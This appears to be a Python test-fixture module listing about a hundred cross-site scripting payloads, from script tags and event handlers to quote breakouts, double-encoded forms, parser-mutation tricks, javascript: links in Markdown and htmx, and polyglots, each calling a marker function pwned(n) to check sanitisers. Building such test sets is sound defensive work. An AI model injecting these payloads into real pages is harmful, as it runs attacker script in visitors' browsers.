"""Texts that run a script where a page forgets to escape them; each calls `pwned` with its own number.

The kinds are those that published cheat sheets and reports on sanitisers tell of: elements, attributes, schemes, what
breaks out of a quote or a raw text, doubly decoded, rewritten by the parser (mutation), by Markdown or by htmx.
"""

from __future__ import annotations

CALL = "pwned"

KINDS = (
    # Elements that run by themselves.
    "<script>@</script>", "<SCRIPT >@</sCript\t>", "<script/x>@</script>", "<<script>@//<</script>",
    "<scr<script>ipt>@</scr</script>ipt>", "<script src=data:,@></script>", "<svg><script>@</script></svg>",
    "<svg onload=@>", "<svg/onload=@//", "<img src=x onerror=@>", "<IMG/SRC='x'/OnErRoR=@>",
    "<img src=x onerror\x0c=@>",
    "<img src onerror=@ x=`>", "<body onload=@>", "<video><source onerror=@>", "<audio src=x onerror=@>",
    "<details open ontoggle=@>", "<input autofocus onfocus=@>", "<select autofocus onfocus=@>",
    "<marquee onstart=@>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>", "<svg><set onbegin=@ attributeName=x>",
    "<object data=x onerror=@>",
    "<iframe srcdoc='<script>parent.@</script>'>", "<iframe src=javascript:parent.@>", "<embed src=javascript:@>",
    "<object data=javascript:@>", "<link rel=stylesheet href=x onerror=@>", "<style onload=@></style>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>", "<base href=javascript:@//>",
    "<div><template shadowrootmode=open><img src=x onerror=@></template></div>",
    # Those that wait for a hand.
    "<a href=javascript:@>x</a>", "<a href='jav&#x09;ascript:@'>x</a>", "<a href='&#1;javascript:@'>x</a>",
    "<svg><a xlink:href=javascript:@><text y=9>x</text></a></svg>", "<math href=javascript:@>x</math>",
    "<form action=javascript:@><button>x</button></form>", "<button formaction=javascript:@>x</button>",
    "<b onmouseover=@>x</b>",
    "<b hx-on:click=@ data-hx-on:load=@>x</b>", "<b hx-trigger=load hx-get=/x hx-on::load=@>x</b>",
    # Out of where a text stands.
    "\"><img src=x onerror=@>", "'><img src=x onerror=@>", "\" autofocus onfocus=@ x=\"", "' autofocus onfocus=@ x='",
    "x onmouseover=@ x", "--><img src=x onerror=@>", "]]><img src=x onerror=@>", "</script><script>@</script>",
    "</title><img src=x onerror=@>", "</textarea><img src=x onerror=@>", "</style><img src=x onerror=@>",
    "</noscript><img src=x onerror=@>", "';@//", "\";@//", "${@}", "{{ @ }}", "`-@-`",
    # Decoded once too often.
    "&lt;img src=x onerror=@&gt;", "&#60;script&#62;@&#60;/script&#62;", "%3Cscript%3E@%3C/script%3E",
    "\\u003cscript\\u003e@\\u003c/script\\u003e", "\uff1cscript\uff1e@\uff1c/script\uff1e",
    # Made by the parser that reads it a second time.
    "<svg><style><img src=x onerror=@>", "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>",
    # Schemes and what Markdown makes of them.
    "javascript:@", "JaVaScRiPt:@//", "\x01javascript:@", "data:text/html,<script>parent.@</script>",
    "[x](javascript:@)", "[x](<javascript:@>)", "[x](data:text/html,<script>@</script>)", "<javascript:@>",
    "[x](https://a/\"onmouseover=\"@)", "![x](x\"onerror=\"@)", "https://a/\"onmouseover=\"@", "[x]: javascript:@",
    "**<img src=x onerror=@>**", "a@b.fr\"onmouseover=\"@",
    # In XML, feeds above all.
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@</x:script>", "<![CDATA[<script>@</script>]]>",
    "<?xml-stylesheet href='javascript:@'?>",
    # In many places at once.
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@ )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/oNloAd=@//>",
    "'\"></title></style></textarea></script><svg onload=@>",
)  # fmt: skip
PAYLOADS = tuple(kind.replace("@", f"{CALL}({number})") for number, kind in enumerate(KINDS))
# A dozen that stand for the others, where there is time for few.
POLYGLOTS = tuple(PAYLOADS[KINDS.index(kind)] for kind in (
    "<script>@</script>", "<img src=x onerror=@>", "\"><img src=x onerror=@>", "'><img src=x onerror=@>",
    "\" autofocus onfocus=@ x=\"", "' autofocus onfocus=@ x='", "</script><script>@</script>",
    "&lt;img src=x onerror=@&gt;", "[x](javascript:@)", "javascript:@", "<b hx-on:click=@ data-hx-on:load=@>x</b>",
    "'\"></title></style></textarea></script><svg onload=@>",
))  # fmt: skip
